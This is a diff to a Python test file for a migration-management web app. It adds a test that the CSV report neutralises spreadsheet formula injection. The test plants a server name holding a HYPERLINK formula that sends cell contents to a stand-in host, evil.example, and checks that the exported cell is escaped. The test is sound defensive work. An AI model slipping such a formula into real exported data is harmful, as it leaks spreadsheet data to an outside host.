@@ -5,12 +5,13 @@ Rows only: the compute resources point at 127.0.0.1 port 1, where nothing
 listens, so a preflight really runs and really finds the nodes unreachable.
 """
 import csv
+import doctest
 import io
 from datetime import datetime, timezone
 
 import pytest
 
-from app import status
+from app import csvsafe, status
 from app.extensions import db
 from app.migrations.chart import memory_chart
 from app.models import ComputeResource, MigrationGroup, MigrationTask, Server, TaskEvent
@@ -246,6 +247,31 @@ def test_it_downloads_the_group_report_as_csv_and_json(client, charlie, login, r
     assert rows[0]["bytes"] == str(300 * 2**20) and rows[0]["phase_migrate_ms"] == "3300"
     report = client.get(f"/migrations/groups/{running_group['group']}/report.json").get_json()
     assert report["tasks"][0]["downtime_ms"] == 120 and report["tasks"][1]["status"] == "running"
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_it_neutralises_formula_cells_in_the_csv_report(app, client, charlie, login, fleet_rows,
+                                                         running_group, lead):
+    # A server or node name comes from a node or a person; in a spreadsheet it must stay text.
+    evil = lead + 'HYPERLINK("https://evil.example/?"&A1,"open")'
+    with app.app_context():
+        db.session.get(Server, fleet_rows["web-1"]).name = evil
+        db.session.get(ComputeResource, fleet_rows["node3"]).name = "=1+1"
+        db.session.commit()
+    login(client, "charlie")
+
+    text = client.get(f"/migrations/groups/{running_group['group']}/report.csv").get_data(
+        as_text=True)
+
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["server"] == "'" + evil and rows[1]["server"] == "build-1"
+    assert {r["destination"] for r in rows} == {"'=1+1"}
+    assert rows[0]["downtime_ms"] == "120"  # numbers stay numbers
+
+
+def test_the_csv_cells_hold_their_worked_examples():
+    result = doctest.testmod(csvsafe)
+    assert result.failed == 0 and result.attempted > 0
 
 
 def test_it_lists_the_known_issues_and_the_backup_table(client, charlie, login):
